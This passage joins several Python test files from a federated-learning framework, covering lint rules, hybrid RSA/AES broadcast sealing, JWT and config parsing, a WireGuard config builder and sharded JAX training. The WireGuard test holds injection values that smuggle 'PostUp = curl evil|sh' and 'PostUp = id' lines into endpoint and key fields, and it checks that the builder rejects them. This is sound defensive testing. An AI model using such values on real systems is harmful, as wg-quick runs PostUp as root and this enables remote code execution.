                    return np.asarray(logits)
                done.append(finalize)
                pos = pos + 1
    """, select=["V6L028"])) == []


def test_v6l028_loop_without_decode_out_of_scope():
    assert rule_ids(run("""
        def fold(blobs):
            out = []
            for b in blobs:
                out.append(np.asarray(b))
            return out
    """, select=["V6L028"])) == []


def test_v6l028_noqa_with_justification():
    src = VIOLATES_028.replace(
        "toks = np.asarray(jnp.argmax(logits, axis=-1))",
        "toks = np.asarray(jnp.argmax(logits, axis=-1))  "
        "# noqa: V6L028 - latency probe; one stream, sync is the point")
    rep = run(src, select=["V6L028"])
    assert rule_ids(rep) == []
    assert rep.unjustified_noqa == []


# ---------------------------------------------------------------- V6L018
VIOLATES_018 = """
    def drain(client, task_id, cryptor):
        stream = FedAvgStream(method="jax")
        for blob, w in iter_payloads(client, task_id):
            stream.add_payload(blob, weight=w)
        return stream.finish()
"""

CLEAN_018 = """
    def drain(client, task_id, cryptor, adm, norms):
        stream = FedAvgStream(method="jax", admission=adm,
                              norm_tracker=norms)
        for blob, w in iter_payloads(client, task_id):
            stream.add_payload(blob, weight=w)
        return stream.finish()
"""


def test_v6l018_flags_unadmitted_fold():
    rep = run(VIOLATES_018, select=["V6L018"])
    assert rule_ids(rep) == ["V6L018"]
    assert "admission=" in rep.findings[0].message


def test_v6l018_clean_with_admission_kwarg():
    assert rule_ids(run(CLEAN_018, select=["V6L018"])) == []


def test_v6l018_modular_sum_add_wire_and_none_literal():
    """``admission=None`` is the disabled default, not an opt-in, and
    ``add_wire`` on a self-attribute receiver counts too."""
    rep = run("""
        class Opener:
            def __init__(self, agg):
                self.stream = ModularSumStream(method=agg, admission=None)

            def fold(self, wires, cryptor):
                for w in wires:
                    self.stream.add_wire(w, cryptor)
    """, select=["V6L018"])
    assert rule_ids(rep) == ["V6L018"]
    assert "self.stream.add_wire" in rep.findings[0].message


def test_v6l018_structural_staging_opt_in_is_clean():
    assert rule_ids(run("""
        def fold(wires, cryptor, agg):
            s = ModularSumStream(method=agg, admission=True)
            for w in wires:
                s.add_wire(w, cryptor)
            return s.finish()
    """, select=["V6L018"])) == []


def test_v6l018_any_safe_binding_wins():
    """Scope-blind pass: a name with one admission-armed binding stays
    quiet everywhere rather than flagging the safe call sites."""
    assert rule_ids(run("""
        def a(blob, adm):
            stream = FedAvgStream(method="jax", admission=adm)
            stream.add_payload(blob)

        def b(blob):
            stream = FedAvgStream(method="jax")
            stream.add_payload(blob)
    """, select=["V6L018"])) == []


def test_v6l018_non_stream_receiver_does_not_count():
    assert rule_ids(run("""
        def fold(sink, blobs):
            buf = ByteBuffer()
            for b in blobs:
                buf.add_payload(b)
    """, select=["V6L018"])) == []


def test_v6l018_noqa_with_justification():
    src = VIOLATES_018.replace(
        "stream.add_payload(blob, weight=w)",
        "stream.add_payload(  "
        "# noqa: V6L018 - harness folds self-generated trusted bytes\n"
        "                blob, weight=w)")
    rep = run(src, select=["V6L018"])
    assert rule_ids(rep) == []
    assert rep.unjustified_noqa == []


# ---------------------------------------------------------------- V6L019
VIOLATES_019 = """
    import jax
    from jax.sharding import Mesh

    def make_mesh(n):
        devs = jax.devices()[:n]
        return Mesh(np.asarray(devs), axis_names=("data",))
"""

CLEAN_019 = """
    from jax.sharding import Mesh
    from vantage6_trn import models

    def make_mesh(n):
        devs = models.leased_devices(n)
        return Mesh(np.asarray(devs), axis_names=("data",))
"""


def test_v6l019_flags_direct_devices_slice():
    rep = run(VIOLATES_019, select=["V6L019"])
    assert rule_ids(rep) == ["V6L019"]
    assert "scheduler lease" in rep.findings[0].message


def test_v6l019_clean_through_lease_adapter():
    assert rule_ids(run(CLEAN_019, select=["V6L019"])) == []


def test_v6l019_flags_aliased_devices_binding():
    """Binding jax.devices() to a name first is the same bypass one
    assignment later — the module-level taint tracking catches it."""
    rep = run("""
        import jax

        def pick(n):
            pool = list(jax.devices())
            return pool[:n]
    """, select=["V6L019"])
    assert rule_ids(rep) == ["V6L019"]
    assert "pool" in rep.findings[0].message


def test_v6l019_flags_mesh_built_from_devices():
    rep = run("""
        import jax
        from jax.sharding import Mesh

        def make(n):
            return Mesh(np.asarray(jax.devices()[:n]), ("data",))
    """, select=["V6L019"])
    # both the slice and the Mesh construction are reported
    assert rule_ids(rep) == ["V6L019", "V6L019"]


def test_v6l019_flags_visible_cores_env_writes():
    rep = run("""
        import os

        def confine(idx):
            os.environ["NEURON_RT_VISIBLE_CORES"] = str(idx)

        def confine_soft(env, idx):
            env.setdefault("NEURON_RT_VISIBLE_CORES", str(idx))
    """, select=["V6L019"])
    assert rule_ids(rep) == ["V6L019", "V6L019"]
    assert all("NEURON_RT_VISIBLE_CORES" in f.message
               for f in rep.findings)


def test_v6l019_scheduler_module_is_exempt():
    assert rule_ids(run(VIOLATES_019, path="node/scheduler.py",
                        select=["V6L019"])) == []


def test_v6l019_unrelated_subscripts_and_env_reads_are_clean():
    assert rule_ids(run("""
        import os
        import jax

        def ok(rows, n):
            count = len(jax.devices())
            first = rows[:n]
            cores = os.environ.get("NEURON_RT_VISIBLE_CORES")
            return count, first, cores
    """, select=["V6L019"])) == []


def test_v6l019_noqa_with_justification():
    src = VIOLATES_019.replace(
        "devs = jax.devices()[:n]",
        "devs = jax.devices()[:n]  "
        "# noqa: V6L019 - sanctioned adapter: lease-space crossing")
    rep = run(src, select=["V6L019"])
    assert rule_ids(rep) == []
    assert rep.unjustified_noqa == []

# ---------------------------------------------------------------- V6L020
SERVER_PATH = "vantage6_trn/server/fixture.py"

VIOLATES_020 = """
    _SESSIONS = {}
    pending: list = []

    def remember(sid, data):
        _SESSIONS[sid] = data
"""

CLEAN_020 = """
    import threading

    RESOURCES = ("task", "run")
    _HOP_BY_HOP = frozenset({"connection", "upgrade"})
    MAX_PER_PAGE = 1000
    __all__ = ["Registry"]

    class Registry:
        shared = {"class-attr": "not module state"}

        def __init__(self):
            self.cache = {}

    def handler(rows):
        seen = set()
        by_id = {r["id"]: r for r in rows}
        return seen, by_id
"""


def test_v6l020_flags_module_level_mutables_in_server():
    rep = run(VIOLATES_020, path=SERVER_PATH, select=["V6L020"])
    assert rule_ids(rep) == ["V6L020", "V6L020"]
    messages = " ".join(f.message for f in rep.findings)
    assert "_SESSIONS" in messages and "pending" in messages
    assert "Storage" in rep.findings[0].message


def test_v6l020_clean_constants_class_and_function_scope():
    assert rule_ids(run(CLEAN_020, path=SERVER_PATH,
                        select=["V6L020"])) == []


def test_v6l020_only_applies_to_server_package():
    """Same source outside vantage6_trn/server/ is not the rule's
    business — node- and client-side module caches are single-process
    by construction."""
    for path in ("vantage6_trn/node/fixture.py", "fixture.py"):
        assert rule_ids(run(VIOLATES_020, path=path,
                            select=["V6L020"])) == []


def test_v6l020_flags_guarded_and_constructor_built_state():
    """A mutable global behind ``if``/``try`` or built via dict()/
    defaultdict() is still per-worker state."""
    rep = run("""
        import collections

        try:
            import orjson
            CODECS = dict(fast=orjson)
        except ImportError:
            CODECS = dict()

        if True:
            WAITERS = collections.defaultdict(list)
    """, path=SERVER_PATH, select=["V6L020"])
    assert rule_ids(rep) == ["V6L020", "V6L020", "V6L020"]


def test_v6l020_noqa_with_justification():
    src = VIOLATES_020.replace(
        "_SESSIONS = {}",
        "_SESSIONS = {}  "
        "# noqa: V6L020 - process-local wakeup registry; "
        "Conditions cannot cross processes")
    rep = run(src, path=SERVER_PATH, select=["V6L020"])
    assert rule_ids(rep) == ["V6L020"]  # `pending` is still flagged
    assert rep.unjustified_noqa == []
