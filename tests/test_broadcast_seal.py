"""Broadcast seal fast path (common/encryption.py `seal_broadcast`).

Pins the multi-recipient hybrid-encryption contract: every envelope is
self-contained and byte-compatible with the single-recipient decrypt
path, the N envelopes share one AES pass (key/IV/ciphertext) and differ
only in the RSA key wrap, and the fan-out pays exactly ONE Cipher
construction regardless of recipient count.
"""

import base64

import pytest

pytest.importorskip("cryptography")

from vantage6_trn.common.encryption import (  # noqa: E402
    RSACryptor,
    seal_broadcast,
    seal_for,
)

# RSA keygen dominates this file's runtime: share demo-size cryptors
# across tests (they are stateless w.r.t. sealing).


@pytest.fixture(scope="module")
def cryptors():
    return RSACryptor(key_bits=2048), RSACryptor(key_bits=2048)


def test_seal_broadcast_decrypts_per_recipient(cryptors):
    a, b = cryptors
    blob = b"\x00\x01weights" * 5000
    env_a, env_b = seal_broadcast([a.public_key_str, b.public_key_str],
                                  blob)
    # byte-compatible with the unchanged single-recipient decrypt path
    assert a.decrypt_str_to_bytes(env_a) == blob
    assert b.decrypt_str_to_bytes(env_b) == blob


def test_seal_broadcast_envelopes_share_ct_differ_in_key_wrap(cryptors):
    a, b = cryptors
    blob = b"shared broadcast payload"
    env_a, env_b = seal_broadcast([a.public_key_str, b.public_key_str],
                                  blob)
    k_a, iv_a, ct_a = env_a.split("$")
    k_b, iv_b, ct_b = env_b.split("$")
    assert iv_a == iv_b and ct_a == ct_b  # one AES pass, one framing
    assert k_a != k_b                     # per-recipient RSA-OAEP wrap
    # a recipient cannot open with the other's wrap swapped in
    with pytest.raises(Exception):
        a.decrypt_str_to_bytes(env_b)


def test_seal_broadcast_single_aes_pass_at_10_orgs(monkeypatch, cryptors):
    """Acceptance: sealing a weight-scale (≥1 MB) payload to 10 orgs
    constructs exactly ONE Cipher — the AES cost is per fan-out, not
    per recipient."""
    from vantage6_trn.common import encryption

    a, _ = cryptors
    constructions = []
    real_cipher = encryption.Cipher

    def counting_cipher(*args, **kwargs):
        constructions.append(1)
        return real_cipher(*args, **kwargs)

    monkeypatch.setattr(encryption, "Cipher", counting_cipher)
    blob = bytes(1 << 20)  # 1 MiB
    envelopes = encryption.seal_broadcast([a.public_key_str] * 10, blob)
    assert len(envelopes) == 10
    assert len(constructions) == 1
    monkeypatch.undo()
    assert all(a.decrypt_str_to_bytes(e) == blob for e in envelopes)


def _big_blob(n_bytes: int, seed: int = 0) -> bytes:
    # non-repeating payload: any slice misalignment shows up as a diff
    import numpy as np

    return np.random.default_rng(seed).bytes(n_bytes)


def test_parallel_decrypt_bit_exact(cryptors):
    """The threaded CTR-seek decrypt must be byte-identical to the
    serial path — same envelope, same plaintext, any thread count."""
    from vantage6_trn.common.encryption import PARALLEL_OPEN_MIN

    a, _ = cryptors
    blob = _big_blob(PARALLEL_OPEN_MIN + 12_345)  # b64 len > threshold
    env = seal_for(a.public_key_str, blob)
    serial = a.decrypt_str_to_bytes(env, threads=1)
    assert serial == blob
    for n in (2, 3, 8):
        assert a.decrypt_str_to_bytes(env, threads=n) == blob


def test_parallel_decrypt_odd_tail_sizes(cryptors):
    # payload sizes that are NOT multiples of the 48-byte slice grain:
    # the last slice is ragged and the b64 tail carries '=' padding
    from vantage6_trn.common.encryption import PARALLEL_OPEN_MIN

    a, _ = cryptors
    for extra in (1, 17, 47):
        blob = _big_blob(PARALLEL_OPEN_MIN + extra, seed=extra)
        env = seal_for(a.public_key_str, blob)
        assert a.decrypt_str_to_bytes(env, threads=5) == blob


def test_decrypt_modes_observed_on_metric(cryptors):
    from vantage6_trn.common.encryption import PARALLEL_OPEN_MIN
    from vantage6_trn.common.telemetry import REGISTRY

    a, _ = cryptors

    def count(mode):
        return REGISTRY.value("v6_seal_decrypt_seconds", "count",
                              mode=mode)

    small = seal_for(a.public_key_str, b"tiny payload")
    s0, p0 = count("serial"), count("parallel")
    a.decrypt_str_to_bytes(small, threads=8)  # under threshold → serial
    assert count("serial") == s0 + 1 and count("parallel") == p0

    big = seal_for(a.public_key_str, _big_blob(PARALLEL_OPEN_MIN + 7))
    a.decrypt_str_to_bytes(big, threads=2)
    assert count("parallel") == p0 + 1


@pytest.mark.skipif((__import__("os").cpu_count() or 1) < 4,
                    reason="needs >=4 cores to show parallel speedup")
def test_parallel_decrypt_speedup_at_8_threads(cryptors):
    """>=2x wall-clock at 8 threads on a multi-core host (OpenSSL
    releases the GIL during the AES pass)."""
    import time

    a, _ = cryptors
    blob = _big_blob(8 << 20, seed=9)
    env = seal_for(a.public_key_str, blob)

    def best_of(fn, reps=3):
        times = []
        for _ in range(reps):
            t0 = time.perf_counter()
            fn()
            times.append(time.perf_counter() - t0)
        return min(times)

    t_serial = best_of(lambda: a.decrypt_str_to_bytes(env, threads=1))
    t_par = best_of(lambda: a.decrypt_str_to_bytes(env, threads=8))
    assert t_par * 2 <= t_serial, (t_serial, t_par)


def test_seal_broadcast_empty_recipients():
    assert seal_broadcast([], b"data") == []


def test_seal_for_matches_broadcast_framing(cryptors):
    """seal_for (the single-recipient API every existing call site
    uses) still produces the standard 3-part envelope."""
    a, _ = cryptors
    env = seal_for(a.public_key_str, b"solo")
    enc_key, iv, ct = env.split("$")
    assert len(base64.b64decode(iv)) == RSACryptor.IV_BYTES
    assert a.decrypt_str_to_bytes(env) == b"solo"


def test_node_encrypt_for_orgs_unencrypted_shares_encoding():
    """DummyCryptor path of Node.encrypt_for_orgs: one b64 encode shared
    by every org, no server round trips."""
    from vantage6_trn.node.daemon import Node

    node = Node(server_url="http://127.0.0.1:1", api_key="k")
    node.encrypted = False
    out = node.encrypt_for_orgs(b"payload", [1, 2, 3])
    assert set(out) == {1, 2, 3}
    assert len({id(v) for v in out.values()}) == 1  # same str object
    assert base64.b64decode(out[1]) == b"payload"


def test_node_encrypt_for_orgs_batches_pubkey_fetch(cryptors):
    """Encrypted path: cache misses resolve in ONE batched
    GET /organization?ids= call, then every org can open its envelope."""
    from vantage6_trn.node.daemon import Node

    a, b = cryptors
    node = Node(server_url="http://127.0.0.1:1", api_key="k")
    node.encrypted = True
    node.cryptor = a
    calls = []

    def fake_request(method, path, json_body=None, params=None, **kw):
        calls.append((method, path, params))
        assert params == {"ids": "1,2"}
        return {"data": [
            {"id": 1, "public_key": a.public_key_str},
            {"id": 2, "public_key": b.public_key_str},
        ]}

    node.server_request = fake_request
    out = node.encrypt_for_orgs(b"broadcast", [1, 2])
    assert len(calls) == 1
    assert a.decrypt_str_to_bytes(out[1]) == b"broadcast"
    assert b.decrypt_str_to_bytes(out[2]) == b"broadcast"
    # second fan-out: cache hit, zero server round trips
    out2 = node.encrypt_for_each({1: b"p1", 2: b"p2"})
    assert len(calls) == 1
    assert a.decrypt_str_to_bytes(out2[1]) == b"p1"
    assert b.decrypt_str_to_bytes(out2[2]) == b"p2"


def test_node_encrypt_for_orgs_missing_key_raises(cryptors):
    from vantage6_trn.node.daemon import Node

    a, _ = cryptors
    node = Node(server_url="http://127.0.0.1:1", api_key="k")
    node.encrypted = True
    node.cryptor = a
    node.server_request = lambda *a_, **k: {"data": [{"id": 7}]}
    with pytest.raises(RuntimeError, match="no public key"):
        node.encrypt_for_orgs(b"x", [7])
