"""Unit tests for the L0 common layer (SURVEY.md §4 'Common tests' rung:
encryption round-trips, serialization, JWT, context parsing)."""

import time

import numpy as np
import pytest

from vantage6_trn.common import jwt as v6jwt
from vantage6_trn.common.context import NodeContext, ServerContext
from vantage6_trn.common.encryption import DummyCryptor, RSACryptor
from vantage6_trn.common.globals import TaskStatus
from vantage6_trn.common.serialization import (
    deserialize,
    make_task_input,
    serialize,
)


# --- serialization --------------------------------------------------------
def test_serialize_roundtrip_scalars():
    data = {"a": 1, "b": [1.5, "x", None, True], "c": {"d": 2}}
    assert deserialize(serialize(data)) == data


def test_serialize_roundtrip_ndarray():
    w = np.random.default_rng(0).normal(size=(17, 5)).astype(np.float32)
    out = deserialize(serialize({"weights": w, "n": 17}))
    np.testing.assert_array_equal(out["weights"], w)
    assert out["weights"].dtype == np.float32
    assert out["n"] == 17


def test_serialize_jax_array():
    jax = pytest.importorskip("jax")
    x = jax.numpy.arange(6, dtype="float32").reshape(2, 3)
    out = deserialize(serialize(x))
    np.testing.assert_array_equal(out, np.asarray(x))


def test_task_input_shape():
    inp = make_task_input("fit", kwargs={"epochs": 3})
    assert inp == {"method": "fit", "args": [], "kwargs": {"epochs": 3}}


# --- encryption -----------------------------------------------------------
@pytest.fixture(scope="module")
def cryptor():
    pytest.importorskip("cryptography", reason="RSACryptor needs it")
    # 4096-bit keygen is slow; share one across the module.
    return RSACryptor(key_bits=2048)


def test_dummy_cryptor_roundtrip():
    c = DummyCryptor()
    blob = b"hello federated world"
    assert c.decrypt_str_to_bytes(c.encrypt_bytes_to_str(blob)) == blob


def test_rsa_hybrid_roundtrip(cryptor):
    payload = serialize({"weights": np.ones((8, 4), np.float32)})
    wire = cryptor.encrypt_bytes_to_str(payload, cryptor.public_key_str)
    assert wire.count("$") == 2
    assert cryptor.decrypt_str_to_bytes(wire) == payload


def test_rsa_cross_org(cryptor):
    org_b = RSACryptor(key_bits=2048)
    wire = cryptor.encrypt_bytes_to_str(b"secret", org_b.public_key_str)
    assert org_b.decrypt_str_to_bytes(wire) == b"secret"
    with pytest.raises(Exception):
        cryptor.decrypt_str_to_bytes(wire)  # wrong private key


def test_verify_public_key(cryptor):
    assert RSACryptor.verify_public_key(cryptor.public_key_str)
    assert not RSACryptor.verify_public_key("bm90IGEga2V5")


def test_verify_public_key_rejects_non_rsa_and_weak_keys():
    """A parseable-but-unusable key (EC — OAEP sealing would fail
    opaquely later) and an under-sized RSA key must both fail the
    write-time gate (advisor finding, round 2)."""
    import base64

    pytest.importorskip("cryptography", reason="builds EC/RSA test keys")
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec, rsa

    def der_b64(pub):
        return base64.b64encode(pub.public_bytes(
            serialization.Encoding.DER,
            serialization.PublicFormat.SubjectPublicKeyInfo,
        )).decode()

    ec_pub = ec.generate_private_key(ec.SECP256R1()).public_key()
    assert not RSACryptor.verify_public_key(der_b64(ec_pub))
    weak = rsa.generate_private_key(
        public_exponent=65537, key_size=1024).public_key()
    assert not RSACryptor.verify_public_key(der_b64(weak))


# --- jwt ------------------------------------------------------------------
def test_jwt_roundtrip():
    tok = v6jwt.encode({"sub": 7, "client_type": "node"}, "s3cret")
    claims = v6jwt.decode(tok, "s3cret")
    assert claims["sub"] == 7 and claims["client_type"] == "node"


def test_jwt_bad_signature():
    tok = v6jwt.encode({"sub": 1}, "right")
    with pytest.raises(v6jwt.JWTError):
        v6jwt.decode(tok, "wrong")


def test_jwt_expiry():
    tok = v6jwt.encode({"sub": 1, "exp": int(time.time()) - 10}, "k",
                       expires_in=None)
    with pytest.raises(v6jwt.JWTError):
        v6jwt.decode(tok, "k")


# --- enums / context ------------------------------------------------------
def test_task_status_lifecycle():
    assert TaskStatus.has_finished(TaskStatus.COMPLETED)
    assert TaskStatus.has_finished("killed")
    assert not TaskStatus.has_finished(TaskStatus.ACTIVE)
    assert TaskStatus.has_failed("crashed")
    assert not TaskStatus.has_failed(TaskStatus.COMPLETED)


def test_node_context_from_yaml(tmp_path, monkeypatch):
    monkeypatch.setenv("MY_KEY", "abc123")
    cfg = tmp_path / "node.yaml"
    cfg.write_text(
        "name: alpha\n"
        "api_key: ${MY_KEY}\n"
        "server_url: http://srv\n"
        "port: 5123\n"
        "databases:\n"
        "  - label: default\n"
        "    uri: /data/x.csv\n"
        "    type: csv\n"
        "encryption:\n"
        "  enabled: true\n"
        "runtime:\n"
        "  platform: neuron\n"
        "  cores_per_task: 2\n"
    )
    ctx = NodeContext.from_yaml(cfg, data_dir=tmp_path)
    assert ctx.name == "alpha"
    assert ctx.api_key == "abc123"
    assert ctx.server_url == "http://srv:5123/api"
    assert ctx.databases[0]["label"] == "default"
    assert ctx.encryption_enabled
    assert ctx.runtime_platform == "neuron"
    assert ctx.runtime_cores_per_task == 2


def test_server_context_defaults(tmp_path):
    cfg = tmp_path / "srv.yaml"
    cfg.write_text("name: main\nport: 5990\n")
    ctx = ServerContext.from_yaml(cfg, data_dir=tmp_path)
    assert ctx.port == 5990
    assert ctx.api_path == "/api"
    assert ctx.db_uri.endswith("main.sqlite")
