"""WireGuard overlay seam (SURVEY.md §2.4 algo↔algo row, VERDICT r2
missing #5): node-level WG keys (the reference's vpn_manager model —
per-run peer-channel keys live inside algorithm processes and can never
key a node tunnel) → a verified wg-quick configuration. Everything but
the actual ``wg-quick up`` is proven here (the image ships no
WireGuard; ``up()`` must say so clearly), including that the builder is
injection-proof: wg-quick executes ``PostUp`` lines as root."""

import base64

import pytest

pytest.importorskip(
    "cryptography",
    reason="WireGuard keypairs (x25519) need the cryptography package",
)
from vantage6_trn.node import wireguard as wg  # noqa: E402


def _inventory():
    keys = [wg.generate_keypair() for _ in range(3)]
    return keys, [
        {"organization_id": oid, "endpoint": f"10.0.0.{oid}:{51820 + oid}",
         "public_key": keys[i][1]}
        for i, oid in enumerate((1, 2, 300))
    ]


def test_overlay_ip_stable_and_bounded():
    assert wg.overlay_ip(1) == "10.76.0.1"
    assert wg.overlay_ip(300) == "10.76.1.44"
    assert wg.overlay_ip(65535) == "10.76.255.255"
    for bad in (0, -1, 1 << 16):
        with pytest.raises(ValueError):
            wg.overlay_ip(bad)


def test_config_from_inventory():
    keys, peers = _inventory()
    priv, pub = wg.generate_keypair()
    conf = wg.build_config(priv, organization_id=1, peers=peers)
    assert "Address = 10.76.0.1/16" in conf
    assert f"PrivateKey = {priv}" in conf
    assert conf.count("[Peer]") == 2  # self excluded
    # each peer entry binds ITS key to ITS endpoint and overlay /32
    assert f"PublicKey = {keys[1][1]}" in conf
    assert "Endpoint = 10.0.0.2:51822" in conf
    assert "AllowedIPs = 10.76.0.2/32" in conf
    assert "AllowedIPs = 10.76.1.44/32" in conf
    # deterministic: same input, same bytes (ops can diff rollouts)
    assert conf == wg.build_config(priv, 1, peers)


def test_config_rejects_injection_vectors():
    """A hostile inventory entry must not reach the INI: wg-quick runs
    PostUp as root, and bare b64decode would silently strip the very
    newline that smuggles the directive in."""
    _, peers = _inventory()
    priv, _ = wg.generate_keypair()

    evil = dict(peers[1])
    evil["endpoint"] = "1.2.3.4:51820\nPostUp = curl evil|sh"
    with pytest.raises(ValueError, match="host:port"):
        wg.build_config(priv, 1, [peers[0], evil, peers[2]])

    evil = dict(peers[1])
    evil["public_key"] = peers[1]["public_key"] + "\nPostUp = id"
    with pytest.raises(ValueError, match="Curve25519"):
        wg.build_config(priv, 1, [peers[0], evil, peers[2]])

    with pytest.raises(ValueError, match="Curve25519"):
        wg.build_config("\nPostUp = id", 1, peers)


def test_config_rejects_missing_or_short_keys_and_duplicates():
    _, peers = _inventory()
    priv, _ = wg.generate_keypair()
    peers[1]["public_key"] = None
    with pytest.raises(ValueError, match="Curve25519"):
        wg.build_config(priv, 1, peers)
    peers[1]["public_key"] = base64.b64encode(b"short").decode()
    with pytest.raises(ValueError, match="Curve25519"):
        wg.build_config(priv, 1, peers)
    _, peers = _inventory()
    # duplicate org → two peers would claim the same AllowedIPs /32
    # (WireGuard routes to the last, silently blackholing the first)
    with pytest.raises(ValueError, match="duplicate"):
        wg.build_config(priv, 1, peers + [dict(peers[1])])


def test_keypair_is_wireguard_shaped():
    priv, pub = wg.generate_keypair()
    assert len(base64.b64decode(priv)) == 32
    assert len(base64.b64decode(pub)) == 32
    assert priv != pub


def test_write_config_private_from_first_byte_and_cleanup(tmp_path):
    _, peers = _inventory()
    priv, _ = wg.generate_keypair()
    overlay = wg.WireGuardOverlay(priv, organization_id=1,
                                  directory=str(tmp_path))
    path = overlay.write_config(peers)
    assert path.read_text().startswith("[Interface]")
    assert (path.stat().st_mode & 0o777) == 0o600  # holds the priv key
    # repeated writes reuse the same path (no key-bearing file litter)
    assert overlay.write_config(peers) == path
    overlay.down()
    assert not path.exists()  # down() removes the key-bearing conf


def test_up_without_binary_is_a_clear_error(tmp_path, monkeypatch):
    """No silent stub: ``up()`` on this image must explain exactly what
    is missing and what covers the security goal meanwhile."""
    monkeypatch.setattr(wg.shutil, "which", lambda _: None)
    _, peers = _inventory()
    priv, _ = wg.generate_keypair()
    overlay = wg.WireGuardOverlay(priv, organization_id=1,
                                  directory=str(tmp_path))
    with pytest.raises(RuntimeError, match="wg-quick not found"):
        overlay.up(peers)
    overlay.down()  # no conf written yet — must not raise
