"""Sharded local training correctness (SURVEY.md §4 gap plan: collective
correctness on a multi-device mesh, compiled-vs-reference parity)."""

import jax
import numpy as np
import pytest

from vantage6_trn.algorithm.mock_client import MockAlgorithmClient
from vantage6_trn.algorithm.table import Table
from vantage6_trn.models import mlp
from vantage6_trn.ops.aggregate import (
    fedavg_combine,
    fedavg_params,
    flatten_params,
    secure_sum,
    unflatten_params,
)
from vantage6_trn.parallel.mesh import (
    data_parallel_mesh,
    make_data_parallel_fit,
    shard_batch,
)


def _toy_classification(n=256, d=12, classes=4, seed=3):
    rng = np.random.default_rng(seed)
    centers = rng.normal(size=(classes, d)) * 2.0
    y = rng.integers(0, classes, size=n)
    x = centers[y] + rng.normal(size=(n, d))
    return x.astype(np.float32), y.astype(np.int32)


def test_mesh_has_8_cpu_devices():
    assert len(jax.devices()) == 8  # conftest forces the virtual mesh


def test_data_parallel_matches_single_device():
    """8-way sharded grad step == single-device full-batch step."""
    x, y = _toy_classification()
    params = mlp.init_params([12, 16, 4], seed=0)

    mesh1, fit1 = mlp._compiled_fit((0,), 5)
    mesh8, fit8 = mlp._compiled_fit(tuple(range(8)), 5)
    p1 = jax.tree_util.tree_map(jax.numpy.asarray, params)
    p8 = jax.tree_util.tree_map(jax.numpy.asarray, params)

    x1, y1 = shard_batch(mesh1, x, y)
    x8, y8 = shard_batch(mesh8, x, y)
    out1, loss1 = fit1(p1, x1, y1, 0.1)
    out8, loss8 = fit8(p8, x8, y8, 0.1)

    np.testing.assert_allclose(float(loss1), float(loss8), rtol=1e-5)
    for k in out1:
        np.testing.assert_allclose(
            np.asarray(out1[k]), np.asarray(out8[k]), rtol=2e-4, atol=2e-5
        )


def test_flatten_unflatten_roundtrip():
    params = mlp.init_params([5, 7, 3], seed=1)
    flat, spec = flatten_params(params)
    assert flat.ndim == 1 and flat.size == 5 * 7 + 7 + 7 * 3 + 3
    back = unflatten_params(flat, spec)
    for k in params:
        np.testing.assert_array_equal(params[k], back[k])


def test_fedavg_combine_weighted_mean():
    u = [np.ones(4, np.float32), 3 * np.ones(4, np.float32)]
    out = fedavg_combine(u, weights=[1.0, 3.0])
    np.testing.assert_allclose(out, 2.5 * np.ones(4), rtol=1e-6)


def test_fedavg_params_vs_numpy():
    rng = np.random.default_rng(0)
    partials = []
    for i in range(4):
        p = {k: rng.normal(size=v.shape).astype(np.float32)
             for k, v in mlp.init_params([6, 5, 2]).items()}
        partials.append({"weights": p, "n": i + 1})
    combined = fedavg_params(partials)
    wsum = sum(i + 1 for i in range(4))
    for k in combined:
        expect = sum(
            (i + 1) * partials[i]["weights"][k] for i in range(4)
        ) / wsum
        np.testing.assert_allclose(combined[k], expect, rtol=1e-5, atol=1e-6)


def test_secure_sum_mask_cancellation():
    rng = np.random.default_rng(7)
    updates = [rng.normal(size=16).astype(np.float32) for _ in range(3)]
    # pairwise masks: org i adds mask(i,j) for j>i and subtracts for j<i
    masks = {(i, j): rng.normal(size=16).astype(np.float32)
             for i in range(3) for j in range(3) if i < j}
    masked = []
    for i in range(3):
        m = updates[i].copy()
        for j in range(3):
            if i < j:
                m += masks[(i, j)]
            elif j < i:
                m -= masks[(j, i)]
        masked.append(m)
    out = secure_sum(masked)
    np.testing.assert_allclose(out, np.sum(updates, axis=0),
                               rtol=1e-4, atol=1e-5)


def test_mock_mlp_fedavg_learns():
    x, y = _toy_classification(n=600)
    cols = {f"f{i}": x[:, i] for i in range(x.shape[1])}
    cols["label"] = y
    # split across 3 orgs
    tables = [
        [Table({k: v[i::3] for k, v in cols.items()})] for i in range(3)
    ]
    client = MockAlgorithmClient(datasets=tables, module=mlp)
    out = mlp.fit(client, label="label", hidden=[16], n_classes=4,
                  rounds=4, lr=0.2, epochs_per_round=10)
    ev = mlp.evaluate(client, out["weights"], label="label")
    assert ev["accuracy"] > 0.8, (ev, out["history"])


def test_mlp_fit_checkpoint_resume(tmp_path):
    """A re-dispatched central fit resumes from the job checkpoint
    (SURVEY.md §5.4 crash-resume semantics)."""
    from vantage6_trn.algorithm.decorators import RunMetadata
    from vantage6_trn.algorithm.state import load_state

    x, y = _toy_classification(n=120)
    cols = {f"f{i}": x[:, i] for i in range(x.shape[1])}
    cols["label"] = y
    tables = [[Table(cols)]]
    client = MockAlgorithmClient(datasets=tables, module=mlp)
    meta = RunMetadata(task_id=1, extra={"temp_dir": str(tmp_path)})

    out2 = mlp.fit(client, meta, label="label", hidden=[8], n_classes=4,
                   rounds=2, epochs_per_round=2)
    assert out2["resumed_from_round"] == 0
    assert load_state(meta, "mlp_fit") is None  # cleared on completion

    # simulate a crash mid-job: pre-seed a 2-round checkpoint, then ask
    # for 4 rounds — only rounds 3..4 should execute.
    from vantage6_trn.algorithm.state import save_state

    save_state(meta, "mlp_fit", {
        "weights": out2["weights"], "history": out2["history"],
        "rounds_done": 2,
    })
    out4 = mlp.fit(client, meta, label="label", hidden=[8], n_classes=4,
                   rounds=4, epochs_per_round=2)
    assert out4["resumed_from_round"] == 2
    assert len(out4["history"]) == 4


def test_device_pinning_parity():
    """A pinned single-core fit computes the same update as the
    all-device dp fit (dp-mean of full-batch grads == full-batch grad).
    Row count is a multiple of every mesh size on purpose: shard_batch
    truncates to a mesh-size multiple, so a non-multiple batch trains
    on slightly different rows per n_dev — which is why partial_fit
    reports the *trained* row count (asserted below), not the table
    size."""
    import numpy as np

    from vantage6_trn import models
    from vantage6_trn.algorithm.table import Table
    from vantage6_trn.models import mlp

    rng = np.random.default_rng(0)
    cols = {f"f{i}": rng.normal(size=32).astype(np.float32)
            for i in range(4)}
    cols["label"] = rng.integers(0, 3, 32).astype(np.int64)
    df = Table(cols)
    w0 = mlp.init_params([4, 8, 3], seed=1)

    try:
        models.set_preferred_device(0)
        pinned = mlp.partial_fit.__wrapped__(
            df, dict(w0), label="label", hidden=[8], n_classes=3,
            epochs=2)
    finally:
